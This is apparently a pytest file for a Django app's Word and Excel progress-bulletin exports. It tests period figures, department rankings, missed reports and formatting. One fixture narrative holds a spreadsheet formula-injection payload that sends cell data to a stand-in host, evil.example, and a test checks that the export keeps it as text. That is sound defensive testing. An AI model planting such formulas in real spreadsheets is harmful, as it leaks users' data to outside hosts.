"""Bulletins (通报) for a real period: the figures at its end, the change over it, what was sent and missed."""

import datetime
import io
import zoneinfo

import docx
import openpyxl
import pytest
import time_machine
from django.urls import reverse

from departments.models import Department
from progress import services as progress_services
from supervision import services as supervision_services
from tasks.models import WorkItem
from tests.factories import submit_report

pytestmark = pytest.mark.django_db

ZONE = zoneinfo.ZoneInfo("Asia/Shanghai")
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def on(day: datetime.date, hour: int = 10):
    return time_machine.travel(datetime.datetime(day.year, day.month, day.day, hour, tzinfo=ZONE), tick=False)


@pytest.fixture
def june(plan_2020, roles):
    """June 2020: 办公室 reports item 1 at 30% on the 10th and 60% on the 20th (both approved); a leader writes
    an instruction on the 12th, answered on 1 July; the nightly snapshot after each day."""
    office = Department.objects.get(name="办公室")
    item = WorkItem.objects.get(section__plan=plan_2020, number=1)
    state = {}

    def report(percent, narrative):
        approved = submit_report(item=item, department=office, reporter=roles.staff, percent=percent,
                                 narrative=narrative, narrative_visibility="plan")
        progress_services.report_approve(report=approved, reviewer=roles.head)

    def instruct():
        state["instruction"] = supervision_services.instruction_create(item=item, author=roles.leader,
                                                                       text="请加快进度。")

    happenings = {10: lambda: report(30, "已举办学习培训班一期。"), 12: instruct,
                  20: lambda: report(60, '=HYPERLINK("http://evil.example/?x="&A1,"点击")')}
    for day_of_month in range(1, 31):
        day = datetime.date(2020, 6, day_of_month)
        if day_of_month in happenings:
            with on(day):
                happenings[day_of_month]()
        with on(day + datetime.timedelta(days=1), 0):
            progress_services.snapshot_take(day=day, plan=plan_2020)
    instruction = state["instruction"]
    with on(datetime.date(2020, 7, 1)):
        supervision_services.instruction_reply(instruction=instruction, user=roles.staff, text="已落实。")
        progress_services.rollup_refresh(plan=plan_2020)
    return plan_2020


def word(client, query):
    with on(datetime.date(2020, 7, 1), 11):
        response = client.get(reverse("dashboard:bulletin-word") + query)
    assert response.status_code == 200, response.content[:300]
    return docx.Document(io.BytesIO(response.content))


def excel(client, query):
    with on(datetime.date(2020, 7, 1), 11):
        response = client.get(reverse("dashboard:bulletin-excel") + query)
    assert response.status_code == 200, response.content[:300]
    return openpyxl.load_workbook(io.BytesIO(response.content))


def text_of(document) -> str:
    return "\n".join(p.text for p in document.paragraphs)


def test_a_bulletin_shows_the_figures_at_the_end_of_its_period_not_todays(client, roles, june):
    # given item 1 at 30% on 15 June and 60% since the 20th
    client.force_login(roles.leader)

    # when the bulletins for the first and the second half of June are downloaded
    first, second = excel(client, "?from=2020-06-01&to=2020-06-15"), excel(client, "?from=2020-06-16&to=2020-06-30")

    # then each shows item 1 as it stood at the end of its period
    def item_1(workbook):
        return next(row for row in workbook["一"].iter_rows(min_row=3, values_only=True) if row[0] == 1)
    assert item_1(first)[5] == "30%" and item_1(second)[5] == "60%"
    # and the period is printed
    assert first["汇总"]["B2"].value == "2020年6月1日至2020年6月15日"


def test_a_bulletin_shows_the_change_over_the_period_and_the_reports_received(client, roles, june):
    client.force_login(roles.leader)
    document = word(client, "?from=2020-06-16&to=2020-06-30")
    text = text_of(document)
    # section 一 went from item 1 at 30% (of 2 items: 15%) to 60% (30%): +15 points
    assert "（一）突出思想政治引领，引导广大职工听党话跟党走。进度30%（通报期内+15个百分点）" in text
    assert "通报期内共收到进度报告1份" in text


def test_departments_are_ranked_and_missed_reporting_days_named(client, roles, june):
    client.force_login(roles.leader)
    workbook = excel(client, "?from=2020-06-01&to=2020-06-30")
    rows = list(workbook["部室"].iter_rows(min_row=3, values_only=True))
    ranks = [row[0] for row in rows]
    assert ranks == list(range(1, len(rows) + 1))
    office = next(row for row in rows if row[1] == "办公室")
    # 办公室 reported item 1 on 20 June (in the cycle of the 25th) but none of its other items
    items_of_office = WorkItem.objects.filter(section__plan=june, responsibilities__department__name="办公室").count()
    assert office[6] == 2  # reports received in June
    assert office[7] == items_of_office - 1  # reporting days missed: each other item, on 25 June
    text = text_of(word(client, "?from=2020-06-01&to=2020-06-30"))
    assert "办公室：" in text and "2020年6月25日" in text


def test_an_instruction_unanswered_at_the_end_of_the_period_is_listed(client, roles, june):
    client.force_login(roles.leader)
    assert "请加快进度。" in text_of(word(client, "?from=2020-06-01&to=2020-06-30"))  # answered on 1 July


def test_a_returned_answer_and_a_summary_not_sent_are_listed_in_the_bulletin(client, roles, june):
    # given the instruction answered on 1 July, returned on the 2nd; 办公室 sends its 半年总结 (due 10 July) on
    # the 6th, and no other department sends one
    from supervision.models import Instruction

    office = Department.objects.get(name="办公室")
    instruction = Instruction.objects.get()
    requirement = june.summary_requirements.get(name="半年总结")
    with on(datetime.date(2020, 7, 2)):
        supervision_services.instruction_return(instruction=instruction, user=roles.leader, comment="请补充。")
    with on(datetime.date(2020, 7, 6)):
        supervision_services.summary_submit(requirement=requirement, department=office, user=roles.staff,
                                            text="上半年工作总结。")

    # when the bulletin for 1–14 July is downloaded on the 15th
    with on(datetime.date(2020, 7, 15), 11):
        client.force_login(roles.leader)  # a session of the day the bulletin is asked for
        response = client.get(reverse("dashboard:bulletin-word") + "?from=2020-07-01&to=2020-07-14")
        client.force_login(roles.leader)
        sheet = client.get(reverse("dashboard:bulletin-excel") + "?from=2020-07-01&to=2020-07-14")
    assert sheet.status_code == 200, sheet.content.decode()[-3000:]
    workbook = openpyxl.load_workbook(io.BytesIO(sheet.content))
    assert response.status_code == 200, response.content.decode()[-2000:]
    text = text_of(docx.Document(io.BytesIO(response.content)))

    # then the returned instruction counts as unanswered, and the departments without a summary are named
    assert "请加快进度。" in text
    assert "（四）工作总结未报送" in text and "办公室：半年总结" not in text and "组织基层部：半年总结" in text
    rows = {row[1]: row for row in workbook["部室"].iter_rows(min_row=3, values_only=True)}
    assert rows["办公室"][10] == "—" and rows["组织基层部"][10] == "半年总结"


def test_the_bulletin_shows_an_extended_due_date_with_the_original_and_the_count(client, roles, june):
    # given item 1 moved from 31 December to 31 March next year by an approved extension
    office = Department.objects.get(name="办公室")
    item = WorkItem.objects.get(section__plan=june, number=1)
    with on(datetime.date(2020, 6, 28)):
        extension = supervision_services.extension_request(item=item, user=roles.head, department=office,
                                                           new_due=datetime.date(2021, 3, 31), reason="需跨年。")
        supervision_services.extension_check(extension=extension, user=roles.supervisor, approve=True)
        supervision_services.extension_decide(extension=extension, user=roles.leader, approve=True)
    client.force_login(roles.leader)

    # then the section's sheet gives the new date, the original and one extension
    row = next(r for r in excel(client, "?from=2020-06-01&to=2020-06-30")["一"].iter_rows(min_row=3, values_only=True)
               if r[0] == 1)
    assert row[10] == "2021-03-31（原定2020-12-31）" and row[11] == 1


def test_the_word_bulletin_is_an_a4_page_in_official_style(client, roles, june):
    client.force_login(roles.leader)
    document = word(client, "?from=2020-06-01&to=2020-06-30")
    section = document.sections[0]
    assert (round(section.page_width.cm, 1), round(section.page_height.cm, 1)) == (21.0, 29.7)
    assert (round(section.top_margin.cm, 1), round(section.left_margin.cm, 1)) == (3.7, 2.8)
    grid = section._sectPr.find(f"{W}docGrid")
    lines = (29.7 - 3.7 - 3.5) / 2.54 * 72 * 20 / int(grid.get(f"{W}linePitch"))
    assert round(lines) == 28
    title = document.paragraphs[0].runs[0]
    assert title.font.size.pt == 22 and title._element.rPr.rFonts.get(f"{W}eastAsia") == "方正小标宋简体"
    body = next(p for p in document.paragraphs if p.text.startswith("截至"))
    assert body.runs[0].font.size.pt == 16 and body.runs[0]._element.rPr.rFonts.get(f"{W}eastAsia") == "仿宋_GB2312"
    assert "PAGE" in section.footer.paragraphs[0]._p.xml
    assert [p.text for p in document.paragraphs[-2:]] == ["市总工会", "2020年6月30日"]


def test_the_workbook_prints_on_a4_landscape_and_keeps_user_text_as_text(client, roles, june):
    client.force_login(roles.leader)
    workbook = excel(client, "?from=2020-06-01&to=2020-06-30")
    sheet = workbook["一"]
    assert (sheet.page_setup.orientation, sheet.print_title_rows) == ("landscape", "$1:$2")
    narrative = next(row for row in sheet.iter_rows(min_row=3) if row[0].value == 1)[9]
    assert narrative.value.startswith("=HYPERLINK") and narrative.data_type == "s"


def test_numbers_are_written_as_people_write_them(client, roles, june):
    # given item 16's target of two 培训班 with one held
    item = WorkItem.objects.get(section__plan=june, number=16)
    target = item.targets.get(unit="期")
    target.current_value = 1
    target.save()
    client.force_login(roles.leader)
    workbook = excel(client, "?from=2020-06-01&to=2020-06-30")
    row = next(row for row in workbook["五"].iter_rows(min_row=3, values_only=True) if row[0] == 16)
    assert "全员化工会干部培训班：已完成1期，目标2期" in row[4]
    assert "2.00" not in row[4] and "1.00" not in row[4]


@pytest.mark.parametrize("query, problem", [
    ("?from=2020-06-31", "日期"), ("?from=2020-07-01&to=2020-06-01", "晚于"), ("?from=yesterday", "日期"),
])
def test_a_period_that_is_not_one_is_refused_with_a_message(client, roles, june, query, problem):
    client.force_login(roles.leader)
    with on(datetime.date(2020, 7, 1), 11):
        response = client.get(reverse("dashboard:bulletin-word") + query)
    assert response.status_code == 400 and problem in response.content.decode()


def test_the_dashboard_offers_the_month_quarter_and_half_year(client, roles, june):
    client.force_login(roles.leader)
    with on(datetime.date(2020, 7, 1), 11):
        page = client.get(reverse("dashboard:dashboard")).content.decode()
    for period in ("from=2020-07-01&amp;to=2020-07-01", "from=2020-07-01&amp;to=2020-07-01", "from=2020-01-01&amp;to=2020-07-01"):
        assert period in page
    assert "2020年下半年" in page and "2020年第3季度" in page


def test_bulletins_are_for_leadership_and_admins(client, roles, june):
    client.force_login(roles.head)
    assert client.get(reverse("dashboard:bulletin-excel")).status_code == 403
    assert client.get(reverse("dashboard:bulletin-word")).status_code == 403
